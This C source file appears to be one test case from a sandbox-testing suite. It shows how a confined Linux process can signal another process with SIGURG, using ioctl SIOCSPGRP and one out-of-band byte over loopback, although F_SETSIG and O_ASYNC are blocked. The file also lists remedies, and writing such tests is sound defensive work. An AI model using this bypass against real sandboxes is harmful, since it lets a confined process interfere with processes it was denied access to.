// SPDX-License-Identifier: MIT
/*
 * Goal:  another process gets a signal, although F_SETSIG and O_ASYNC are denied.
 * Means: out-of-band data. A socket's owner is told of it with SIGURG without having asked;
 *        SIOCSPGRP says who the owner is. One byte sent with MSG_OOB over loopback is enough.
 */
#include "attacks/peer-tampering/target.h"

#include <arpa/inet.h>
#include <asm/sockios.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

static enum claim run(const struct brief *b)
{
	struct sockaddr_in at = { .sin_family = AF_INET,
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t len = sizeof(at);
	int door = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), near, far;
	pid_t owner = target(b);

	attempting(b);
	if (door < 0 || bind(door, (struct sockaddr *)&at, len) || listen(door, 1) ||
	    getsockname(door, (struct sockaddr *)&at, &len))
		return denied("a socket on loopback");
	near = dial(SOCK_STREAM, ntohs(at.sin_port));
	far = accept4(door, NULL, NULL, SOCK_CLOEXEC);
	if (near < 0 || far < 0)
		return denied("connect");
	if (ioctl(far, SIOCSPGRP, &owner))
		return denied("ioctl SIOCSPGRP");
	if (send(near, "!", 1, MSG_OOB) != 1)
		return denied("send MSG_OOB");
	poll(&(struct pollfd){ .fd = far, .events = POLLPRI }, 1, 1000);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "another process is signalled with SIGURG, which no call in the list sends",
	.means = "ioctl(2) SIOCSPGRP and one urgent byte over loopback",
	.oracle = "bystander",
	.id = "PEER-05",
	.attack_id = "T1489, CWE-693",
	.remedy = "no sockets; Landlock's signal scope; seccomp on the requests of ioctl(2)",
	.refs = (const char *const[]){ "socket(7), Ioctls", "tcp(7)", NULL },
	.run = run,
};
